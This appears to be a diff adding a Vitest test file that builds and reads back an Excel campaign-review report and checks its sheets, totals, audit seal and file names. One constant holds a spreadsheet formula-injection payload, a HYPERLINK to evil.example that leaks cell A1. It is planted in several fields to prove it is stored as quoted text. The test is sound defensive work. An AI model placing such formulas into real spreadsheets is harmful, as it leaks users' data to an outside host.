@@ -1,0 +1,195 @@
+// The « Rapport de campagne » workbook built from a pack as the database hands it over, then read back as an auditor's
+// spreadsheet would read it: its four sheets, its counts, the seal, and hostile text kept as text.
+import * as XLSX from 'xlsx'
+import { describe, expect, it } from 'vitest'
+import { requestBytes } from '@/features/campaigns/excel'
+import {
+  DECISION_COLUMNS,
+  EVIDENCE_SHEETS,
+  SEAL_RESERVED,
+  evidenceFileName,
+  hasEvidencePack,
+  type EvidenceItem,
+  type EvidencePack,
+} from '@/features/campaigns/evidence-model'
+
+const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
+
+function item(rightId: string, status: string, decisions: EvidenceItem['decisions'] = {}): EvidenceItem {
+  return {
+    right_id: rightId,
+    holder_name: 'Julie Martin',
+    holder_email: 'julie@example.com',
+    manager_name: 'Marc Dubois',
+    application_name: 'SAP Finance',
+    role_name: 'Lecteur',
+    account_type: 'standard',
+    granted_at: '2025-01-10T09:00:00Z',
+    last_used_at: null,
+    justification: null,
+    status,
+    decisions,
+  }
+}
+
+const decision = (outcome: 'approved' | 'refused', comment: string | null, ip: string | null = null) => ({
+  decision: outcome,
+  decided_by_name: 'Marc Dubois',
+  decided_by_email: 'marc@example.com',
+  decided_at: '2025-10-20T08:30:00Z',
+  comment,
+  ip_address: ip,
+})
+
+function pack(seal: EvidencePack['summary']['seal']): EvidencePack {
+  return {
+    summary: {
+      campaign: {
+        id: 'c1',
+        name: 'Revue annuelle 2025',
+        description: HOSTILE,
+        status: 'completed',
+        start_date: '2025-10-01',
+        end_date: '2025-11-15',
+        created_at: '2025-09-30T10:00:00Z',
+        created_by_name: 'Alice Admin',
+        application_name: null,
+        account_type: null,
+      },
+      started: { at: '2025-10-01T08:00:00Z', by_name: 'Alice Admin' },
+      completed: { at: '2025-11-16T17:00:00Z', by_name: 'Alice Admin' },
+      items: 3,
+      decided: 3,
+      progress: 100,
+      by_status: { validated_bpo_groupe: 1, treated: 1, treatment_required: 1 },
+      stages: [
+        { stage: 'user', approved: 0, refused: 0, awaiting: 0 },
+        { stage: 'manager', approved: 1, refused: 1, awaiting: 0 },
+        { stage: 'bpo_metier', approved: 1, refused: 0, awaiting: 0 },
+        { stage: 'bpo_groupe', approved: 1, refused: 0, awaiting: 0 },
+        { stage: 'ra', approved: 1, refused: 0, awaiting: 1 },
+      ],
+      decisions_after_end: 2,
+      generated_at: '2026-11-21T10:00:00Z',
+      seal,
+    },
+    items: [
+      item('r1', 'validated_bpo_groupe', {
+        manager: decision('approved', null, '203.0.113.7'),
+        bpo_metier: decision('approved', null),
+        bpo_groupe: decision('approved', null),
+      }),
+      item('r2', 'treated', { manager: decision('refused', HOSTILE), ra: decision('approved', 'Compte supprimé') }),
+      item('r3', 'treatment_required'),
+    ],
+    events: [
+      {
+        id: 41,
+        timestamp: '2025-10-01T08:00:00Z',
+        user_name: 'Alice Admin',
+        user_email: 'admin@example.com',
+        action: 'start_campaign',
+        resource_type: 'campaigns',
+        resource_id: 'c1',
+        details: { rights_attached: 3 },
+        ip_address: null,
+      },
+      {
+        id: 42,
+        timestamp: '2025-10-20T08:30:00Z',
+        user_name: 'Marc Dubois',
+        user_email: 'marc@example.com',
+        action: 'decide',
+        resource_type: 'user_rights',
+        resource_id: 'r2',
+        details: { comment: HOSTILE },
+        ip_address: '203.0.113.7',
+      },
+    ],
+  }
+}
+
+const SEAL = { intact: true, rows_checked: 120, head_id: 120, head_hash: 'ab'.repeat(32), first_broken_id: null, reason: null }
+
+function readBack(evidence: EvidencePack) {
+  const workbook = XLSX.read(requestBytes({ pack: evidence }), { type: 'array', cellFormula: true })
+  const rows = (sheet: string) => XLSX.utils.sheet_to_json<string[]>(workbook.Sheets[sheet]!, { header: 1, defval: '' })
+  return { workbook, rows }
+}
+
+/** The value beside a label of the Synthèse sheet. */
+const besides = (rows: string[][], label: string) => rows.find((row) => row[0] === label)?.[1]
+
+describe('the Rapport de campagne workbook', () => {
+  it('has the four sheets, one Décisions row per item and the Traitements RA of the refused and undecided ones', () => {
+    const { workbook, rows } = readBack(pack(SEAL))
+    expect(workbook.SheetNames).toEqual([...EVIDENCE_SHEETS])
+    const decisions = rows('Décisions')
+    expect(decisions[0]).toEqual(DECISION_COLUMNS)
+    expect(decisions.slice(1).map((row) => row[0])).toEqual(['r1', 'r2', 'r3'])
+    const ipColumn = DECISION_COLUMNS.indexOf('IP (Manager)')
+    expect(decisions[1]![ipColumn]).toBe('203.0.113.7')
+    const treatments = rows('Traitements RA').slice(1)
+    expect(treatments.map((row) => [row[0], row[7]])).toEqual([
+      ['r2', 'Traité'],
+      ['r3', 'Non traité'],
+    ])
+    expect(treatments[1]![5]).toBe('Non décidé à la clôture')
+    const journal = rows('Journal').slice(1)
+    expect(journal.map((row) => [row[3], row[4]])).toEqual([
+      ['Lancement de campagne', 'Campagne'],
+      ['Décision', 'Droit'],
+    ])
+  })
+
+  it('sums the outcomes and per-stage figures in the Synthèse', () => {
+    const synthesis = readBack(pack(SEAL)).rows('Synthèse')
+    expect(besides(synthesis, 'Campagne')).toBe('Revue annuelle 2025')
+    expect(besides(synthesis, 'Applications')).toBe('Toutes')
+    expect(besides(synthesis, 'Lancée par')).toBe('Alice Admin')
+    expect(besides(synthesis, 'Droits revus')).toBe('3')
+    expect(besides(synthesis, 'Traité')).toBe('1')
+    expect(besides(synthesis, 'Traitement requis')).toBe('1')
+    expect(besides(synthesis, 'Décisions après la date de fin')).toBe('2')
+    expect(synthesis.find((row) => row[0] === 'Manager')).toEqual(['Manager', '1', '1', '0', '100 %'])
+    expect(besides(synthesis, 'Sceau du journal')).toBe('Intact')
+    expect(besides(synthesis, 'Empreinte de tête (SHA-256)')).toBe('ab'.repeat(32))
+  })
+
+  it('says the seal is the RSSI’s when the pack was made by an administrator, and names a broken row', () => {
+    expect(besides(readBack(pack(null)).rows('Synthèse'), 'Sceau du journal')).toBe(SEAL_RESERVED)
+    const broken = { ...SEAL, intact: false, first_broken_id: 57, reason: 'hash_mismatch' }
+    expect(besides(readBack(pack(broken)).rows('Synthèse'), 'Sceau du journal')).toBe('Rompu à la ligne 57 (contenu modifié)')
+  })
+
+  it('keeps hostile text as text in every sheet: no formula, a leading quote', () => {
+    const { workbook } = readBack(pack(SEAL))
+    let quoted = 0
+    for (const name of workbook.SheetNames) {
+      const sheet = workbook.Sheets[name]!
+      for (const [address, cell] of Object.entries(sheet)) {
+        if (address.startsWith('!')) continue
+        const value = cell as XLSX.CellObject
+        expect(value.f).toBeUndefined()
+        expect(value.t).toBe('s')
+        const text = String(value.v)
+        expect(text.startsWith('=')).toBe(false)
+        if (text.startsWith("'=HYPERLINK")) quoted += 1
+      }
+    }
+    // The description in the Synthèse and the refusal's comment in Décisions and in Traitements RA (the journal's details
+    // cell starts with its key, so it needs no quote).
+    expect(quoted).toBe(3)
+  })
+})
+
+describe('the pack around the workbook', () => {
+  it('names the file after the campaign and the day', () => {
+    expect(evidenceFileName('Revue annuelle 2025', new Date(2026, 10, 21))).toBe('rapport-campagne-revue-annuelle-2025-2026-11-21.xlsx')
+    expect(evidenceFileName('Révision : accès / privilégiés', new Date(2026, 0, 5))).toBe('rapport-campagne-revision-acces-privilegies-2026-01-05.xlsx')
+  })
+
+  it('exists for completed and archived campaigns only', () => {
+    expect(['draft', 'active', 'completed', 'archived'].filter(hasEvidencePack)).toEqual(['completed', 'archived'])
+  })
+})
